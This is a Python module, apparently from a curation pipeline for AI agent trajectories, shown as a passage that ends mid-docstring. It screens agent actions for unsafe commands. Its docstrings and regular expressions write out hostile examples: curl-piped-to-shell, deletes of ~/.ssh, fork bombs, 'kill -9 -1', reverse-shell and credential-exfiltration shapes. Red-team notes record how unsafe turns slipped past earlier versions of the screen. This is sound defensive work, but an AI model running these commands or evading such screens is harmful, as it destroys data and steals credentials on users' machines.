"""What an action would do outside the sandbox: the command-safety screen over everything trained.

Every other stage judges the final state and whether the observations are true. Neither sees harm
an action does *outside* the task: in the network-less replay sandbox ``curl -s https://x/x.sh |
sh`` fails quietly and ``rm -rf ~/.ssh`` finds nothing, so their quiet recorded outputs replay
true, and an honest fix with one such turn was admitted pristine with that turn as a training
target (red team, 2026-12-06: 4/4, incl. a script written, run and deleted in one turn). A policy
trained on it learns to run it on a user's machine, where it does what it says.

So the screen reads what each action *says* it does, wherever an action's text is:

- every call's shell line (:attr:`.calls.CallRecord.shell_command`, the one rule of which calls run
  a line), and an argv list given as a call's ``command`` / ``cmd`` / ``argv`` (joined as a line);
- every other string a call passes (an editor's ``file_text``, a write tool's ``content``, a
  heredoc inside a line): a script the episode writes and then runs is screened as it is written,
  whether or not the final diff still holds it;
- the lines the final diff adds to a file that is not Python (a ``.envrc``, a ``package.json``
  ``postinstall``, a ``build.sh``, a CI file: other tools run them on their own; the Python files
  are stage 2's, :mod:`.pysource`).

:data:`RULES` is the one table of what is unsafe and what follows. ``quarantine`` rules (remote
code run, a delete or write outside the workspace, credentials read or sent out, a remote shell)
send the whole episode to ``tamper_quarantine`` with reason :data:`UNSAFE_ACTION`: an episode that
did it is never a demonstration, and its other turns lead up to it. A hard negative too: the
preference stage trains on its turns up to the divergence, and a shared prefix with an unsafe turn
is no safe "chosen" side either. ``context`` rules (force-pushing, skipping hooks, ``sudo``,
installing from a URL, switching TLS checks off) are risky but ordinary in a throwaway container:
the episode stays, and the turn is context, never a target (:mod:`.roles`, reason
``unsafe_action``).

Text, not a shell: the screen matches shapes over the line as written and with its quotes and
backslashes removed (``c"ur"l`` is ``curl`` to bash), and splits a line into simple commands
(``shlex``, as :func:`.replay.simple_command_words` does) only where a rule needs a command's
arguments (which paths a delete touches). A workspace path is one under the repository root the
log records (:func:`.replay.repository_root`), or relative and not climbing out with ``..``;
scratch space (``/tmp``, ``/var/tmp``, ``/dev/null``) is anyone's.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import PurePosixPath

from trajectory_platform.curation.shell_split import bash_words
from trajectory_platform.curation.verify.argv_calls import argv_lines
from trajectory_platform.curation.verify.calls import CallRecord, call_records
from trajectory_platform.curation.verify.context import DiffView
from trajectory_platform.curation.verify.replay import repository_root
from trajectory_platform.curation.verify.shell_indirection import assignments, expansions
from trajectory_platform.curation.verify.verdicts import Finding
from trajectory_platform.traces.record import Episode

UNSAFE_ACTION = "unsafe_action"
"""The reason key: the episode's ``sink_reason`` (quarantine rules) or the turn's context reason
(context rules), and the code of every finding the screen makes."""

QUARANTINE, CONTEXT = "quarantine", "context"

_FETCH = r"(?:curl|wget|fetch|aria2c|http|httpie|invoke-webrequest|iwr|irm|invoke-restmethod)"
_SHELLS = r"(?:sh|bash|zsh|dash|ksh|fish|source|iex|invoke-expression|\$\{?SHELL\}?)"
_SCRIPTS = r"(?:python[\d.]*|perl|ruby|node|php)"
_RUN_PREFIX = r"(?:(?:sudo|env|command|exec|nohup)\s+(?:-\S+\s+)*)*(?:/\S*/)?"
_INTERP = rf"{_RUN_PREFIX}(?:{_SHELLS}|{_SCRIPTS})"
"""An interpreter, however it is started."""
_STDIN_INTERP = rf"{_RUN_PREFIX}(?:{_SHELLS}(?!\s+-\w*c\b)|{_SCRIPTS}(?!\s+-\w*[cmerE]\b))"
"""An interpreter that runs what it reads on its input: not one given its program as an argument
(``python3 -m json.tool`` and ``perl -ne '...'`` read a download as data)."""
_END = r"(?=\s|$|[)'\";|&])"
_NET = r"(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp)"
_CREDENTIALS = (
    r"(?:~|\$\{?home\}?|/root|/home/[^/\s]+)/\.(?:ssh|aws|gnupg|netrc|git-credentials|docker/config\.json"
    r"|kube/config|pypirc|npmrc|config/gcloud|config/gh/hosts|azure|password-store)|/etc/(?:shadow|sudoers)\b"
    r"|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\baws\s+configure\s+get\b|\bgcloud\s+auth\s+print|\bgh\s+auth\s+token\b"
)
_CREDENTIAL_COMPILED = re.compile(_CREDENTIALS, re.IGNORECASE | re.MULTILINE)
_SECRET_VARIABLE = r"\$\{?\w*(?:secret|token|password|passwd|api_key|access_key|private_key)\w*"


def _dequoted(text: str) -> str:
    """``text`` with quotes and backslashes removed: to bash ``c"ur"l`` and ``c\\url`` are ``curl``."""
    return re.sub(r"[\"'\\]", "", text)


def _search(compiled: re.Pattern[str], text: str) -> bool:
    return compiled.search(text) is not None or compiled.search(_dequoted(text)) is not None


def _pattern(text: str) -> Callable[[str, str | None], bool]:
    """A rule's test by a shape over the text, as written or with its quotes removed (``^`` and
    ``$`` at each line: a script's lines are commands)."""
    compiled = re.compile(text, re.IGNORECASE | re.MULTILINE)
    return lambda line, _root: _search(compiled, line)


@dataclass(frozen=True)
class Rule:
    """One unsafe shape: its name (a finding's detail names it, never the record's text), its
    severity (:data:`QUARANTINE` or :data:`CONTEXT`), why, and the test over an action's text."""

    name: str
    severity: str
    why: str
    matches: Callable[[str, str | None], bool]


_SCRATCH = (
    "/tmp",
    "/var/tmp",
    "/dev/null",
    "/dev/stdout",
    "/dev/stderr",
    "/dev/tty",
    "/dev/fd",
    "/proc/self/fd",
)
"""Scratch space any process may use: a path under these is never outside the workspace."""
_SYSTEM = (
    *("/etc", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/sys", "/proc", "/dev", "/var", "/opt"),
    *("/root", "/home", "/srv", "/mnt", "/media", "/snap"),
)
"""The machine's own folders and other users' homes: outside any workspace, root recorded or not."""
_REMOVING = frozenset(
    {"rm", "rmdir", "unlink", "shred", "truncate", "chmod", "chown", "chgrp", "mv", "srm", "wipe"}
)
"""Programs that remove or take away what their path arguments name."""
_LAST_IS_TARGET = frozenset({"cp", "rsync", "install", "ln"})
"""Programs that write only their last path argument (the others are read)."""
_PREFIXES = frozenset({"sudo", "doas", "env", "command", "exec", "nohup", "time", "xargs", "nice"})
"""Words that run the command after them."""
_SEPARATORS = frozenset({";", "&&", "||", "|", "&", "(", ")", "|&", ";;"})
_OPERATOR_CHARACTERS = frozenset(";&|()")
_REDIRECTS = frozenset({">", ">>", "&>", "&>>", ">|"})
"""Output redirections as ``shlex`` splits them (``2>`` is ``2`` then ``>``)."""


def _bare(word: str) -> str:
    """A word as a path: without the punctuation a quoted line inside code leaves on it
    (``os.system('rm -rf ~'),`` gives ``~'),``)."""
    return word.strip().rstrip(",;)]}\"'")


def _under(path: str, folder: str) -> bool:
    return path == folder or path.startswith(folder.rstrip("/") + "/")


def outside_workspace(word: str, root: str | None, removes: bool = True) -> bool:
    """Whether a path an action changes lies outside the workspace: the home folder however it is
    spelled, the file system's root or a system folder (:data:`_SYSTEM`); and, for an action that
    removes or takes away (``removes``: a delete, a move, a permission change, a truncation), also
    an absolute path outside the recorded repository root (when the log records one) and a relative
    path that climbs out (``../..``). A write that only creates or overwrites a file next to the
    repository (OpenHands' ``/workspace/test.c`` beside ``/workspace/<repo>``) is the agent's own
    scratch. Scratch space (:data:`_SCRATCH`) is inside."""
    path = _bare(word)
    if path.startswith("~") or re.match(r"\$\{?HOME\b", path):
        return True
    if removes and path.startswith("$") and _run_time_place(path):
        return True
    if path.startswith("/"):
        if root is not None and root != "/" and _under(path, root):
            return False
        if any(_under(path, scratch) for scratch in _SCRATCH):
            return False
        first = "/" + path.lstrip("/").split("/", 1)[0]
        everywhere = path.rstrip("/*") == "" or any(c in first for c in "*?[")  # /, /*, /*/x
        return everywhere or first in _SYSTEM or (removes and root is not None and root != "/")
    depth = 0
    for part in PurePosixPath(path).parts if removes else ():
        depth += -1 if part == ".." else (0 if part == "." else 1)
        if depth < 0:
            return True
    return False


def _run_time_place(path: str) -> bool:
    """Whether a path only the run time resolves names somewhere the workspace is not: the folder
    the shell was in before (``$OLDPWD``), a parent of the current one (``$(dirname "$PWD")``), or a
    climb out of any variable's place (``$TMPDIR/../..``, ``$PWD/..``): a delete there is outside
    whatever the variable holds."""
    return bool(re.match(r"\$\{?OLDPWD\b|\$\(\s*dirname\b", path)) or ".." in PurePosixPath(path).parts


NESTED_DEPTH = 4
"""How deep :func:`simple_commands` reads lines quoted inside lines (``bash -c '...'``, a Python
``os.system('...')`` inside ``python -c "..."``, a heredoc script's ``subprocess.run('...')``)."""


def simple_commands(line: str, depth: int = NESTED_DEPTH) -> Iterator[list[str]]:
    """The simple commands of a shell line (words, quotes removed), split at list operators, pipes
    and parentheses, and those of every quoted word that is itself a line (it holds a space): the
    line ``bash -lc '...'``, ``sh -c``, ``su -c`` or a script's ``os.system('...')`` runs. A line
    ``shlex`` cannot split (an open quote) yields its words split at spaces."""
    words = bash_words(line.replace("\n", " ; "))
    if words is None:
        words = line.split()
    command: list[str] = []
    for word in words:
        if word in _SEPARATORS or (word and set(word) <= _OPERATOR_CHARACTERS):  # ``);`` is one run
            if command:
                yield command
            command = []
        else:
            command.append(word)
            if depth > 0 and re.search(r"\s", word):
                yield from simple_commands(word, depth - 1)
    if command:
        yield command


def _targets(words: list[str]) -> Iterator[tuple[str, bool]]:
    """The paths a simple command changes, each with whether the change removes or takes away
    (:func:`outside_workspace`): a removing program's arguments, ``find``'s start folder when it
    deletes, ``dd of=``; and the files a write creates or overwrites: redirections, a copy's
    destination, ``tee``'s and ``sed -i``'s files."""
    for index, word in enumerate(words[:-1]):
        if word in _REDIRECTS:
            yield words[index + 1], False
    while words and (words[0] in _PREFIXES or re.fullmatch(r"\w+=.*", words[0])):
        words = words[1:]
    if not words:
        return
    program, arguments = words[0].rsplit("/", 1)[-1], [w for w in words[1:] if not w.startswith("-")]
    yield from _option_targets(program, words)
    if program in _DISK_WRITERS or program.startswith("mkfs."):
        listing = any(w in ("-l", "--list", "-d", "--dump", "print") for w in words[1:])
        yield from ((w, True) for w in arguments if w.startswith("/dev/") and not listing)
    if program in _REMOVING:
        yield from ((argument, True) for argument in arguments)
    elif program == "tee":
        yield from ((argument, False) for argument in arguments)
    elif program in _LAST_IS_TARGET and arguments:
        yield arguments[-1], False
    elif program == "dd":
        yield from ((w[3:], True) for w in words if w.startswith("of="))
    elif program == "sed" and any(w.startswith(("-i", "--in-place")) for w in words[1:]):
        yield from ((argument, False) for argument in arguments[1:])
    elif program == "find" and any(w in ("-delete", "rm", "shred") for w in words):
        yield from ((w, True) for w in words[1:2] if not w.startswith(("-", "(", "!")))


_OPTION_TARGETS: dict[str, tuple[tuple[str, ...], bool]] = {
    "tar": (("-C", "--directory"), False),
    "bsdtar": (("-C", "--directory"), False),
    "gtar": (("-C", "--directory"), False),
    "unzip": (("-d",), False),
    "7z": (("-o",), False),
    "7za": (("-o",), False),
    "cpio": (("-D", "--directory"), False),
    "cp": (("-t", "--target-directory"), False),
    "mv": (("-t", "--target-directory"), True),
    "install": (("-t", "--target-directory"), False),
    "ln": (("-t", "--target-directory"), False),
    "patch": (("-d", "--directory"), False),
    "make": (("-C", "--directory"), False),
    "git": (("-C", "--work-tree"), True),
}
"""Programs that change the folder an option names (``tar -x -C DIR``, ``unzip -d DIR``, ``cp -t
DIR``, ``7z x -oDIR``, ``make -C DIR``, ``git -C DIR clean``), with whether the change removes:
red team round 10 (C8), a target given as an option's value was read as nothing."""
_GIT_WRITES = frozenset(
    {
        "clean",
        "reset",
        "checkout",
        "restore",
        "rm",
        "stash",
        "pull",
        "merge",
        "apply",
        "am",
        "rebase",
        "switch",
    }
)
"""The git subcommands that change the work tree (a ``git -C DIR`` elsewhere then changes DIR)."""
_DISK_WRITERS = frozenset(
    {"mkfs", "mke2fs", "mkswap", "wipefs", "sfdisk", "parted", "sgdisk", "gdisk", "cfdisk", "fdisk"}
    | {"blkdiscard", "badblocks", "cryptsetup", "mdadm", "pvcreate", "vgremove", "lvremove", "zpool"}
)
"""Programs that rewrite a disk or partition named under ``/dev/`` (only ``dd of=`` and ``shred``
were known): a device path they are given is a removing target, unless they only list."""


def _option_targets(program: str, words: list[str]) -> Iterator[tuple[str, bool]]:
    """The folders a command changes by an option's value (:data:`_OPTION_TARGETS`): ``tar`` only
    when it extracts, ``git`` only with a subcommand that writes the work tree."""
    if program not in _OPTION_TARGETS:
        return
    options, removes = _OPTION_TARGETS[program]
    rest = words[1:]
    if program in ("tar", "bsdtar", "gtar"):
        first = rest[0] if rest else ""
        cluster = first if not first.startswith("--") else ""
        if not ("x" in cluster.lstrip("-") or {"--extract", "--get"} & set(rest)):
            return
    if program == "git" and not _GIT_WRITES & set(rest):
        return
    for index, word in enumerate(rest):
        for option in options:
            if word == option and index + 1 < len(rest):
                yield rest[index + 1], removes
            elif word.startswith(option + "=") and option.startswith("--"):
                yield word.split("=", 1)[1], removes
            elif (
                len(option) == 2 and word.startswith(option) and len(word) > 2 and not option.startswith("--")
            ):
                yield word[2:], removes


_CODE_DELETE = re.compile(
    r"(?:\brmtree|\bos\.(?:remove|unlink|rmdir|removedirs)|\.unlink|\.rmdir|\brm_rf|\brm_r|\brmSync"
    r"|\brmdirSync|\bunlinkSync|\brimraf(?:\.sync)?|\bremove_dir_all|\bRemoveAll)\s*\(\s*"
)
"""A delete made by a program's own library (Python's ``shutil.rmtree``/``os.remove``/``Path.unlink``,
Ruby's ``FileUtils.rm_rf``, Node's ``fs.rmSync``, Rust's ``remove_dir_all``, Go's ``os.RemoveAll``),
at the opening of its argument."""
_HOME_VALUE = re.compile(
    r"(?:os\.path\.)?expanduser|(?:pathlib\.)?Path\.home\b|os\.(?:environ\s*(?:\[|\.get\()|getenv\()\s*['\"]HOME"
    r"|\bhomedir\(|process\.env\.HOME|ENV\[['\"]HOME|Dir\.home|home_dir\(|UserHomeDir\("
)
"""A value that is the user's home folder, in the languages :data:`_CODE_DELETE` knows."""
_LITERAL_PATH = re.compile(r"""(?:\w*Path\(\s*)?[rbfu]?(['"`])([^'"`]*)\1""")


def _first_argument(text: str) -> str:
    """``text`` up to the end of a call's first argument: its first ``,`` or ``)`` outside
    brackets (``require('os').homedir(), {...})`` gives ``require('os').homedir()``)."""
    depth = 0
    for index, char in enumerate(text):
        if char in "([{":
            depth += 1
        elif depth == 0 and char in ",)]}":
            return text[:index]
        elif char in ")]}":
            depth -= 1
    return text


def _receiver_outside(before: str, root: str | None, removes: bool = True) -> bool:
    """Whether the path object a method delete is called on (``Path.home().joinpath('x').unlink()``,
    ``Path('~/.bashrc').expanduser().unlink()``) is built from the home folder or an outside literal:
    read back to the start of its statement."""
    statement = re.split(r"[;\n]|\bimport\b", before)[-1]
    if _HOME_VALUE.search(statement):
        return True
    literal = re.search(r"""Path\(\s*[rbfu]?(['"])([^'"]*)\1""", statement)
    return (
        literal is not None and bool(literal.group(2)) and outside_workspace(literal.group(2), root, removes)
    )


_CODE_TAKES = re.compile(
    r"(?:\bos\.(?:rename|renames|replace|chmod|lchmod|chown|lchown|truncate)|\bshutil\.(?:move|chown)"
    r"|\.(?:chmod|lchmod)|\b(?:renameSync|chmodSync|chownSync|truncateSync)|\bFile\.(?:rename|chmod|truncate)"
    r"|\bFileUtils\.(?:mv|chmod|chmod_R|chown|chown_R))\s*\(\s*"
)
"""A move, permission change or truncation made by a program's own library, of the path at the
opening of its argument: it takes that path away (``removes``)."""
_CODE_WRITES = re.compile(
    r"(?:\.(?:write_text|write_bytes|touch)|\b(?:writeFileSync|appendFileSync|writeFile|appendFile"
    r"|createWriteStream)|\bFile\.(?:write|binwrite))\s*\(\s*"
)
"""A write made by a program's own library (Python's ``Path.write_text``, Node's ``fs.writeFileSync``,
Ruby's ``File.write``), of the path at the opening of its argument."""
_CODE_WRITES_SECOND = re.compile(
    r"(?:\bshutil\.(?:copy|copy2|copyfile|copytree|move)|\bos\.(?:rename|renames|replace|symlink|link)"
    r"|\b(?:copyFileSync|renameSync|symlinkSync|cpSync)|\bFileUtils\.(?:cp|cp_r|mv|ln_s|install))\s*\(\s*"
)
"""A copy, move or link made by a program's own library, written at its second argument."""
_CODE_OPEN = re.compile(r"\b(?:open|openSync)\s*\(\s*")
_WRITE_MODE = re.compile(
    r"""^\s*(?:mode\s*=\s*)?[rbfu]?(['"])[rbt]*[wax+][rbt+]*\1|\bO_(?:WRONLY|RDWR|TRUNC|APPEND|CREAT)\b"""
)
"""An ``open`` mode that writes (``'w'``, ``'a'``, ``'x'``, ``'r+'``, ``os.O_WRONLY``)."""
_PERL_OPEN = re.compile(r"""\bopen\s*\(?\s*(?:my\s+)?[$\w]+\s*,\s*(['"])(?:>>?|\+[<>])\1\s*,\s*""")
"""Perl's three-argument ``open(my $f, '>', PATH)``."""


def _names_outside(argument: str, root: str | None, removes: bool) -> bool:
    """Whether a call's argument is the home folder however a language spells it, or a literal
    :func:`outside_workspace` places outside."""
    if _HOME_VALUE.search(argument):
        return True
    literal = _LITERAL_PATH.match(argument)
    return (
        literal is not None and bool(literal.group(2)) and outside_workspace(literal.group(2), root, removes)
    )


def _code_changes_outside(line: str, root: str | None) -> bool:
    """Whether inline code deletes, moves, truncates, writes or opens for writing a path outside the
    workspace: the argument the call changes is the home folder or an outside literal, also where
    the call is a method of a path object built from one (a red team (rtforge9 F8, 2026-12-06)
    deleted ``~`` through ``python3 -c "shutil.rmtree(os.path.expanduser('~'))"``, a delete the
    word-level reading of ``rm``'s operands never saw; red team rtforge12 (2026-12-07) wrote
    ``/etc/hosts`` and ``~/.bashrc`` through ``open(..., 'w')``, ``Path.write_text``,
    ``fs.writeFileSync`` and Perl's ``open``, and moved ``/etc/passwd`` through ``os.rename``).
    Removing, moving and permission changes count as :func:`outside_workspace`'s ``removes``;
    a write that only creates or overwrites does not."""
    for pattern, removes in ((_CODE_DELETE, True), (_CODE_TAKES, True), (_CODE_WRITES, False)):
        for match in pattern.finditer(line):
            argument = _first_argument(line[match.end() : match.end() + 240])
            if _names_outside(argument, root, removes):
                return True
            if match.group().startswith(".") and _receiver_outside(line[: match.start()], root, removes):
                return True
    for match in _CODE_WRITES_SECOND.finditer(line):
        rest = line[match.end() : match.end() + 480]
        first = _first_argument(rest)
        if rest[len(first) : len(first) + 1] == "," and _names_outside(
            _first_argument(rest[len(first) + 1 :].lstrip()), root, removes=False
        ):
            return True
    for match in _CODE_OPEN.finditer(line):
        rest = line[match.end() : match.end() + 480]
        first = _first_argument(rest)
        mode = _first_argument(rest[len(first) + 1 :]) if rest[len(first) : len(first) + 1] == "," else ""
        if _WRITE_MODE.search(mode) and _names_outside(first, root, removes=False):
            return True
    return any(
        _names_outside(_first_argument(line[m.end() : m.end() + 240]), root, removes=False)
        for m in _PERL_OPEN.finditer(line)
    )


def _destructive_outside(line: str, root: str | None) -> bool:
    """Whether a command of the line changes a path outside the workspace; after a ``cd`` out of it
    (``cd ~ && rm -rf .ssh``) a relative path is outside too; and a change made by inline code
    (:func:`_code_changes_outside`)."""
    if _code_changes_outside(line, root):
        return True
    away = False
    for command in simple_commands(line):
        if command[:1] == ["cd"]:
            away = len(command) == 1 or outside_workspace(command[1], root, removes=False)
            continue
        for target, removes in _targets(command):
            relative = not _bare(target).startswith(("/", "~", "$"))
            if outside_workspace(target, root, removes) or (away and relative):
                return True
    return False


_SHELL = r"(?:\S*/)?(?:ba|z|da|k|mk|tc|c)?sh\b"
_NET_CLIENT = r"(?:\S*/)?(?:nc|ncat|netcat|telnet|socat)\b|\bopenssl\s+s_client\b"
_REMOTE_SHELL_WORDS = re.compile(
    r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^\n;]*\s(?:-[ec]\b|--(?:sh-|lua-)?exec\b)|\bsocat\b[^\n;]*\bexec:"
    r"|/inet/(?:tcp|udp)/"  # awk's network special files
    rf"|(?:{_NET_CLIENT})[^|\n;]*\|\s*{_SHELL}"  # nc HOST PORT | sh
    rf"|(?:^|[|;&(]\s*){_SHELL}(?:\s+-\w+|\s+\d?[<>]&?\s*\S+)*\s*\|\s*(?:{_NET_CLIENT})",  # sh -i 2>&1 | nc
    re.IGNORECASE | re.MULTILINE,
)
"""A shell's input or output given to a remote host by the shell's words: ``/dev/tcp``, a network
client told to run a program, awk's ``/inet/tcp``, a network client piped into a shell or a bare
shell (only options and redirections: ``sh -i 2>&1``, not ``sh ./configure``) piped into one."""
_CODE_CONNECTS = re.compile(
    r"\bsocket\.(?:socket|create_connection)\b|\bsocket\(\s*\w+\s*,\s*PF_INET|\bTCPSocket\b|\bfsockopen\("
    r"|\bnet\.(?:Socket|connect|createConnection)\b|\brequire\(\s*['\"]net['\"]\s*\)|\bnew\s+[\w.]*Socket\("
    r"|\bsocket\.tcp\(|\bztcp\b|\bIO::Socket",
    re.IGNORECASE,
)
_CODE_INTERACTIVE_SHELL = re.compile(
    rf"""\bpty\.spawn\(|['"\[]\s*{_SHELL}(?:\s+-i\b|['"]\s*,\s*\[?\s*['"]-i\b|\s*['"]\s*[,\]])"""
    rf"""|['"]{_SHELL}\s+-i\b|\b(?:ba|z)?sh\s*[<>]&""",
)
"""A shell started to be talked to (``pty.spawn``, ``/bin/sh -i``, a shell with no command:
``["/bin/sh"]``, ``spawn('/bin/sh', [])``), not one given a command (``['/bin/sh', '-c', 'make']``)."""
_CODE_WIRED = re.compile(r"\bdup2\b|[<>]&|\bstdin\s*=|\.pipe\(|\bopen\(\s*STDIN\b")
"""The standard streams handed over: ``dup2``, a redirection to a descriptor, ``stdin=``, a pipe."""


def _remote_shell(line: str, _root: str | None) -> bool:
    """Whether the line hands a shell to a remote host: by the shell's words
    (:data:`_REMOTE_SHELL_WORDS`), or by code that connects a socket, starts a shell to be talked
    to and hands it the streams, all three in one text. ``/dev/tcp`` and ``nc -e`` alone were read
    before, and a red team (rtforge12, 2026-12-07) passed Python, Perl, Ruby, PHP, Node, Lua and zsh
    reverse shells, ``mkfifo`` loops and ``telnet | sh | telnet``."""
    if _search(_REMOTE_SHELL_WORDS, line):
        return True
    return all(_search(pattern, line) for pattern in (_CODE_CONNECTS, _CODE_INTERACTIVE_SHELL, _CODE_WIRED))


_POWER = frozenset({"shutdown", "poweroff", "reboot", "halt", "kexec"})
"""Programs that change the host's power state (``init 0``/``6``, ``systemctl poweroff``: below)."""
_KILL_EVERYTHING = re.compile(
    r"\bkill\b[^\n;|&]*\s--?\s*1\b(?!\.)|\bkill\b(?:\s+-\S+)*\s+-?1\s*(?:$|[;|&)])|\bkillall5\b"
    r"|\b(?:pkill|killall|skill|slay)\b[^\n;|&]*\s(?:-u|--user|-U|--uid)\b|\bos\.kill(?:pg)?\(\s*-1\b"
    r"|\bprocess\.kill\(\s*-1\b|/proc/sysrq-trigger",
    re.MULTILINE,
)
"""Every process at once (``kill -9 -1``: all the user may signal; ``pkill -u``: all of a user's;
the kernel's SysRq trigger)."""
_POWER_STATE = re.compile(
    r"\bsystemctl\s+(?:poweroff|reboot|halt|kexec|suspend|hibernate|isolate|emergency|rescue)\b"
    r"|(?:^|[;&|(`'\"]|\$\()\s*(?:sudo\s+)?(?:/\S*/)?(?:tel)?init\s+[0-6sS]\b",
    re.MULTILINE,
)
"""The machine's power state or run level changed through ``systemctl`` or ``init``."""
_FORK_BOMB = re.compile(
    r"(?P<f>[\w:.]+)\s*\(\)\s*\{[^}]*(?P=f)\s*\|\s*(?P=f)\s*&"
    r"|\b(?:while|for)\b[^\n]*:\s*(?:\n\s*)?(?:[^\n]*;\s*)?os\.fork\(\)"
    r"|\bwhile\s*\(\s*(?:1|true)\s*\)\s*\{?\s*fork\(\)|\bfork\s+while\b|\bwhile\s*\(?\s*(?:1|true)\s*\)?\s*\{?\s*fork\b"
)
"""A process that copies itself without end (bash's ``:(){ :|:& };:``, ``os.fork()`` in a loop)."""


def _host_disruption(line: str, _root: str | None) -> bool:
    """Whether the line takes down every process or exhausts the machine: never a task's step (red
    team rtforge9 F8, 2026-12-06: ``kill -9 -1``, ``pkill -9 -u $(id -u)``, ``:(){ :|:& };:`` were
    trained)."""
    return _search(_KILL_EVERYTHING, line) or _search(_FORK_BOMB, line)


def _host_power(line: str, _root: str | None) -> bool:
    """Whether a command of the line (also one quoted inside code) is a program of :data:`_POWER`,
    or the line changes the power state or run level otherwise (:data:`_POWER_STATE`). A context
    rule, not a quarantine: a user may ask for it in so many words (BFCL's ``shutdown /s /t 0``)."""
    if _search(_POWER_STATE, line):
        return True
    for words in simple_commands(line):
        while words and (words[0] in _PREFIXES or re.fullmatch(r"\w+=.*", words[0])):
            words = words[1:]
        if words and words[0].rsplit("/", 1)[-1] in _POWER:
            return True
    return False


_GLOBAL_CONFIG = re.compile(
    r"\bgit\b[^\n;|&]*\bconfig\b[^\n;|&]*\s--(?:global|system)\b(?![^\n;|&]*\s(?:--get\S*|--list|-l|--show\S*)\b)"
    r"[^\n;|&]*\s\S+\s+\S"
    r"|\b(?:npm|pnpm|yarn)\s+config\s+set\b|\bpip[\d.]*\s+config\s+(?:set|edit|unset)\b"
    r"|\bconda\s+config\s+--(?:add|set|remove)\b|\bgsettings\s+set\b|\bdefaults\s+write\b",
    re.MULTILINE,
)
"""A setting written for every repository or project of the user or the machine (``git config
--global``/``--system`` with a value, ``npm``/``pip``/``conda config`` set), not the task's own."""
_KEY_FILES = (
    r"(?:\*?\.(?:pem|key|p12|pfx|jks|keystore|kdbx|ovpn|asc|gpg|ppk)|id_(?:rsa|dsa|ecdsa|ed25519|\*)\*?"
    r"|\.env\b|\*?credentials?\*?|\*?secrets?\*?|\*?\.netrc|\*?token\*?|\*?password\*?)"
)
_HOST_ROOT = r"(?:/|~/?|\$\{?HOME\}?/?|/home/?\S*|/root/?\S*|/etc/?\S*|/Users/?\S*|/var/?\S*|/mnt/?\S*)"
_CREDENTIAL_HUNT = re.compile(
    rf"\b(?:find|locate|plocate|mlocate|fd|fdfind|ls\s+-\w*R\w*)\b[^\n;|&]*\s{_HOST_ROOT}(?=\s|$)[^\n;|&]*"
    rf"(?:-i?(?:name|path|regex)\s+\S*{_KEY_FILES}|\s\S*{_KEY_FILES})"
    rf"|\b(?:locate|plocate|mlocate)\b[^\n;|&]*\s\S*{_KEY_FILES}"
    rf"|\b(?:grep|rg|ag|ack)\b[^\n;|&]*\s-\w*[rR]\w*\b[^\n;|&]*"
    r"(?:PRIVATE KEY|AKIA|BEGIN RSA|password|secret|token)"
    rf"[^\n;|&]*\s{_HOST_ROOT}(?=\s|$)"
    rf"|\b(?:i?glob|rglob|walk)\s*\(\s*[rf]?['\"]{_HOST_ROOT}[^'\"]*{_KEY_FILES}",
    re.IGNORECASE | re.MULTILINE,
)
"""A search of the machine (``/``, a home, ``/etc``) for files of a credential's kind (``*.pem``,
``id_*``, ``.env``) or for a key's text: the known dotfile paths of :data:`_CREDENTIALS` name
where a credential usually is, this finds where it is by what it is."""


_FETCH_EXECUTE = re.compile(
    rf"\b{_FETCH}\b[^\n;]*?\|\s*{_STDIN_INTERP}{_END}"  # curl ... | [sudo] sh
    # sh -c "$(curl ...)", bash <(curl ...), eval "$(curl ...)"
    rf"|(?:{_INTERP}|\beval|\.)\s+(?:-\S+\s+)*(?:<\s*)?[\"']?(?:\$\(|<\(|`)\s*{_FETCH}\b"
    rf"|\bbase64\s+(?:-\w*d\w*|--decode)\b[^\n;]*?\|\s*{_STDIN_INTERP}{_END}"  # ... | base64 -d | sh
    rf"|\beval\b\s*[\"']?(?:\$\(|`)[^\n]*\bbase64\s+(?:-\w*d\w*|--decode)"  # eval "$(... | base64 -d)"
    # exec(urlopen(...).read())
    r"|\b(?:exec|eval)\s*\([^\n]*(?:urlopen|requests\.get|httpx\.get|urllib\.request)"
    r"|\b(?:iex|invoke-expression)\b[^\n]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
    re.IGNORECASE,
)


_LOCAL_HOST = r"(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|::1)"
_UPLOAD_FORM = re.compile(
    r"\b(?:curl|http|https|httpie|xh)\b[^\n;|&]*?(?:\s(?:-F|--form)\s*\S*@|\s(?:-T|--upload-file)[\s=]\S"
    r"|\s(?:-d|--data|--data-binary|--data-urlencode|--json)[\s=]['\"]?(?:\w*@|@)|\s\w+@[^\s@]*\.\w|\s@[\w./-])"
    r"|\bwget\b[^\n;|&]*\s--(?:post|body)-file[\s=]"
    r"|\b(?:tar|zip|cat|gzip|base64|cpio)\b[^\n;&]*\|\s*(?:\S*/)?(?:nc|ncat|netcat|socat|telnet)\b"
    r"|\b(?:requests|httpx|session|client)\.(?:post|put|patch|request)\([^\n]*(?:\bopen\(|files\s*=|read_bytes\(|read_text\()"
    r"|\burlopen\([^\n]*\bopen\(|\bfetch\([^\n]*readFileSync",
    re.IGNORECASE | re.MULTILINE,
)
"""A network client's upload form naming a file (``curl -F f=@FILE``, ``-T``, ``--data-binary @``,
``wget --post-file``, httpie's ``field@FILE``), a tree piped to a socket, a file's bytes posted from
code."""
_REMOTE_COPIES = frozenset({"scp", "rsync", "sftp"})
_BUCKET_COPIES = re.compile(
    r"\b(?:aws\s+s3\s+(?:cp|sync|mv)|gsutil\s+(?:-\S+\s+)*(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync|mv)"
    r"|rclone\s+(?:copy|sync|move|copyto)|azcopy\s+(?:copy|sync)|az\s+storage\s+blob\s+upload\S*)\b"
)


def _without_redirections(words: list[str]) -> list[str]:
    """A command's words without its redirections (``2>/dev/null`` is ``2``, ``>``, ``/dev/null``
    to ``shlex``): what it names as operands."""
    kept: list[str] = []
    skip = False
    for index, word in enumerate(words):
        if skip:
            skip = False
        elif word and set(word) <= set("<>&"):
            skip = True
        elif not (word.isdigit() and words[index + 1 : index + 2] and set(words[index + 1]) <= set("<>&")):
            kept.append(word)
    return kept


def _remote_destination(word: str) -> bool:
    """Whether a copy's destination is on another machine or a bucket (``host:path``,
